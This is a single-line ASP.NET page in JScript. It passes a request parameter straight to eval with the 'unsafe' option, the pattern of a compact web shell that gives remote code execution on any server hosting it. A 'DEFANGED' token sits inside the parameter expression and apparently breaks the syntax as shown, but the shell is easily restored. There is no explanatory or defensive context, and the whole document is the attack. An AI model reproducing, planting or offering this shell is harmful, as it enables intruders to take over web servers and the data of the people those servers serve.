<%@ Page Language="Jscript"%><%eval(Request.Item[DEFANGED "x"],"unsafe");%>
